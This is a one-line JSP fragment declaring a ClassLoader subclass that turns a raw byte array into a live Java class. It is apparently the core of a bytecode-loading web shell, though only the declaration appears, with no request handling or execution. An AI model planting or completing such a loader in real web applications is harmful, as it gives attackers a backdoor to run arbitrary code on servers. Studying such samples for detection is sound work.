<%! class L extends ClassLoader { Class g(byte[] b) { return defineClass(b, 0, b.length); } } %>
